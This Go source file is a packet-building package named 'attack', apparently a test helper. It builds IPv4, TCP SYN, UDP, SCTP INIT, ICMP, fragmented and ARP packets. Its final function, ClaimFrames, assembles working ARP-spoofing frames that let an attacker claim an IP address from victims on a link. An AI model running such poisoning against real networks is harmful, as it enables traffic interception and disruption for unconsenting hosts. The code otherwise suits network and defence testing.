package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"net"
	"net/netip"
)

// IP protocol numbers the toolkit builds.
const (
	ProtoICMP = 1
	ProtoTCP  = 6
	ProtoUDP  = 17
	ProtoSCTP = 132
)

// TCP flags.
const (
	FlagFIN = 0x01
	FlagSYN = 0x02
	FlagRST = 0x04
	FlagPSH = 0x08
	FlagACK = 0x10
)

// ICMP types.
const (
	ICMPEchoReply   = 0
	ICMPUnreachable = 3
	ICMPEchoRequest = 8
)

// ARP operations.
const (
	ARPRequest = 1
	ARPReply   = 2
)

// Ether types.
const (
	EtherIPv4 = 0x0800
	EtherARP  = 0x0806
)

// SCTPChunkInit is the chunk type of an SCTP INIT.
const SCTPChunkInit = 1

const (
	ipv4HeaderLen = 20
	udpHeaderLen  = 8
	tcpHeaderLen  = 20
	minFrameLen   = 60 // Ethernet minimum without FCS
)

var (
	// ErrShort is returned by Parse for a packet too short for its headers.
	ErrShort = errors.New("packet too short")
	// ErrNotIPv4 is returned by Parse for anything but an IPv4 header.
	ErrNotIPv4 = errors.New("not an IPv4 packet")
	// ErrFragSize is returned by Fragments for a size that is not a
	// positive multiple of 8.
	ErrFragSize = errors.New("fragment size must be a positive multiple of 8")
)

// Broadcast is the Ethernet broadcast address.
var Broadcast = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// IPv4 is the part of an IPv4 header a test sets; the rest is fixed
// (version 4, no options, TOS 0).
type IPv4 struct {
	Src, Dst netip.Addr
	Proto    uint8
	ID       uint16
	TTL      uint8 // 64 when 0
	DF, MF   bool
	FragOff  int // in bytes, a multiple of 8
}

// Packet returns the header followed by payload, total length and
// header checksum filled in.
func (h IPv4) Packet(payload []byte) []byte {
	b := make([]byte, ipv4HeaderLen+len(payload))
	b[0] = 0x45
	binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
	binary.BigEndian.PutUint16(b[4:], h.ID)
	frag := uint16(h.FragOff/8) & 0x1fff
	if h.DF {
		frag |= 0x4000
	}
	if h.MF {
		frag |= 0x2000
	}
	binary.BigEndian.PutUint16(b[6:], frag)
	b[8] = h.TTL
	if b[8] == 0 {
		b[8] = 64
	}
	b[9] = h.Proto
	src, dst := h.Src.As4(), h.Dst.As4()
	copy(b[12:], src[:])
	copy(b[16:], dst[:])
	binary.BigEndian.PutUint16(b[10:], Checksum(b[:ipv4HeaderLen]))
	copy(b[ipv4HeaderLen:], payload)
	return b
}

// Checksum is the Internet checksum (RFC 1071) of b.
func Checksum(b []byte) uint16 { return ^fold(sum(0, b)) }

func sum(acc uint32, b []byte) uint32 {
	for len(b) >= 2 {
		acc += uint32(binary.BigEndian.Uint16(b))
		b = b[2:]
	}
	if len(b) == 1 {
		acc += uint32(b[0]) << 8
	}
	return acc
}

func fold(acc uint32) uint16 {
	for acc > 0xffff {
		acc = acc>>16 + acc&0xffff
	}
	return uint16(acc)
}

// l4Checksum is the TCP/UDP checksum of seg (its checksum field zero)
// over the IPv4 pseudo-header.
func l4Checksum(src, dst netip.Addr, proto uint8, seg []byte) uint16 {
	s, d := src.As4(), dst.As4()
	acc := sum(0, s[:])
	acc = sum(acc, d[:])
	acc += uint32(proto) + uint32(len(seg))
	return ^fold(sum(acc, seg))
}

// UDP returns a UDP datagram (header and payload) from src to dst with
// its checksum.
func UDP(src, dst netip.AddrPort, payload []byte) []byte {
	b := make([]byte, udpHeaderLen+len(payload))
	binary.BigEndian.PutUint16(b[0:], src.Port())
	binary.BigEndian.PutUint16(b[2:], dst.Port())
	binary.BigEndian.PutUint16(b[4:], uint16(len(b)))
	copy(b[udpHeaderLen:], payload)
	c := l4Checksum(src.Addr(), dst.Addr(), ProtoUDP, b)
	if c == 0 {
		c = 0xffff // zero means "no checksum" in UDP
	}
	binary.BigEndian.PutUint16(b[6:], c)
	return b
}

// TCP is a TCP segment to build.
type TCP struct {
	Src, Dst netip.AddrPort
	Seq, Ack uint32
	Flags    uint8
	Window   uint16 // 64240 when 0
	MSS      uint16 // an MSS option when not 0
	Payload  []byte
}

// Segment returns the segment (header and payload) with its checksum.
func (t TCP) Segment() []byte {
	hl := tcpHeaderLen
	if t.MSS != 0 {
		hl += 4
	}
	b := make([]byte, hl+len(t.Payload))
	binary.BigEndian.PutUint16(b[0:], t.Src.Port())
	binary.BigEndian.PutUint16(b[2:], t.Dst.Port())
	binary.BigEndian.PutUint32(b[4:], t.Seq)
	binary.BigEndian.PutUint32(b[8:], t.Ack)
	b[12] = byte(hl/4) << 4
	b[13] = t.Flags
	w := t.Window
	if w == 0 {
		w = 64240
	}
	binary.BigEndian.PutUint16(b[14:], w)
	if t.MSS != 0 {
		b[20], b[21] = 2, 4
		binary.BigEndian.PutUint16(b[22:], t.MSS)
	}
	copy(b[hl:], t.Payload)
	binary.BigEndian.PutUint16(b[16:], l4Checksum(t.Src.Addr(), t.Dst.Addr(), ProtoTCP, b))
	return b
}

// SYN returns a TCP SYN segment from src to dst with an MSS option.
func SYN(src, dst netip.AddrPort, seq uint32) []byte {
	return TCP{Src: src, Dst: dst, Seq: seq, Flags: FlagSYN, MSS: 1460}.Segment()
}

// SCTPInit returns an SCTP packet (common header and one INIT chunk) with
// its CRC32c. INIT carries verification tag 0 (RFC 9260 8.5.1).
func SCTPInit(srcPort, dstPort uint16, initTag uint32) []byte {
	b := make([]byte, 12+20)
	binary.BigEndian.PutUint16(b[0:], srcPort)
	binary.BigEndian.PutUint16(b[2:], dstPort)
	c := b[12:]
	c[0] = SCTPChunkInit
	binary.BigEndian.PutUint16(c[2:], 20)
	binary.BigEndian.PutUint32(c[4:], initTag)
	binary.BigEndian.PutUint32(c[8:], 65535) // advertised receiver window
	binary.BigEndian.PutUint16(c[12:], 10)   // outbound streams
	binary.BigEndian.PutUint16(c[14:], 10)   // inbound streams
	binary.BigEndian.PutUint32(c[16:], initTag^0x5a5a5a5a)
	PutCRC32c(b[8:12], b)
	return b
}

// PutCRC32c writes the CRC32c of pkt into dst (4 bytes inside pkt, zero
// while computing) in SCTP's byte order: the CRC's least significant
// byte first (RFC 9260 appendix A, the same bytes as RFC 3720's iSCSI
// examples).
func PutCRC32c(dst, pkt []byte) {
	clear(dst[:4])
	binary.LittleEndian.PutUint32(dst, crc32.Checksum(pkt, castagnoli))
}

// ICMPEcho returns an ICMP echo request with its checksum.
func ICMPEcho(id, seq uint16, payload []byte) []byte {
	b := make([]byte, 8+len(payload))
	b[0] = ICMPEchoRequest
	binary.BigEndian.PutUint16(b[4:], id)
	binary.BigEndian.PutUint16(b[6:], seq)
	copy(b[8:], payload)
	binary.BigEndian.PutUint16(b[2:], Checksum(b))
	return b
}

// Fragments cuts payload (a whole transport segment) into IPv4 fragments
// of size bytes of payload each (the last may be shorter), every one a
// complete packet with h's addresses, protocol and ID.
func Fragments(h IPv4, payload []byte, size int) ([][]byte, error) {
	if size <= 0 || size%8 != 0 {
		return nil, fmt.Errorf("fragment %d bytes: %w", size, ErrFragSize)
	}
	var out [][]byte
	for off := 0; off < len(payload); off += size {
		end := min(off+size, len(payload))
		f := h
		f.DF, f.FragOff, f.MF = false, off, end < len(payload)
		out = append(out, f.Packet(payload[off:end]))
	}
	return out, nil
}

// ARP is an Ethernet/IPv4 ARP message.
type ARP struct {
	Op        uint16 // ARPRequest or ARPReply
	SenderMAC net.HardwareAddr
	SenderIP  netip.Addr
	TargetMAC net.HardwareAddr // nil: zero, as in requests
	TargetIP  netip.Addr
}

// Frame returns the message in an Ethernet frame to dst from SenderMAC,
// padded to the Ethernet minimum.
func (a ARP) Frame(dst net.HardwareAddr) []byte {
	p := make([]byte, 28)
	binary.BigEndian.PutUint16(p[0:], 1) // Ethernet
	binary.BigEndian.PutUint16(p[2:], EtherIPv4)
	p[4], p[5] = 6, 4
	binary.BigEndian.PutUint16(p[6:], a.Op)
	copy(p[8:], a.SenderMAC)
	s, t := a.SenderIP.As4(), a.TargetIP.As4()
	copy(p[14:], s[:])
	copy(p[18:], a.TargetMAC)
	copy(p[24:], t[:])
	return Ethernet(dst, a.SenderMAC, EtherARP, p)
}

// Ethernet returns an Ethernet frame, padded to the minimum length.
func Ethernet(dst, src net.HardwareAddr, etherType uint16, payload []byte) []byte {
	b := make([]byte, max(14+len(payload), minFrameLen))
	copy(b[0:6], dst)
	copy(b[6:12], src)
	binary.BigEndian.PutUint16(b[12:], etherType)
	copy(b[14:], payload)
	return b
}

// Host is a station on a link: its MAC and IPv4 address.
type Host struct {
	MAC net.HardwareAddr
	IP  netip.Addr
}

// ClaimFrames are the ARP frames by which attacker claims address ip
// for its own MAC: a gratuitous request and a gratuitous reply, both
// broadcast, and to each victim a unicast reply and a unicast request
// for the victim's own address. Linux takes a request's sender into
// its neighbour table and lets an unsolicited reply update an entry, so
// between them these reach every kind of entry a victim may hold.
func ClaimFrames(attacker net.HardwareAddr, ip netip.Addr, victims []Host) [][]byte {
	frames := [][]byte{
		ARP{Op: ARPRequest, SenderMAC: attacker, SenderIP: ip, TargetIP: ip}.Frame(Broadcast),
		ARP{Op: ARPReply, SenderMAC: attacker, SenderIP: ip, TargetMAC: Broadcast, TargetIP: ip}.Frame(Broadcast),
	}
	for _, v := range victims {
		frames = append(frames,
			ARP{Op: ARPReply, SenderMAC: attacker, SenderIP: ip, TargetMAC: v.MAC, TargetIP: v.IP}.Frame(v.MAC),
			ARP{Op: ARPRequest, SenderMAC: attacker, SenderIP: ip, TargetIP: v.IP}.Frame(v.MAC))
	}
	return frames
}
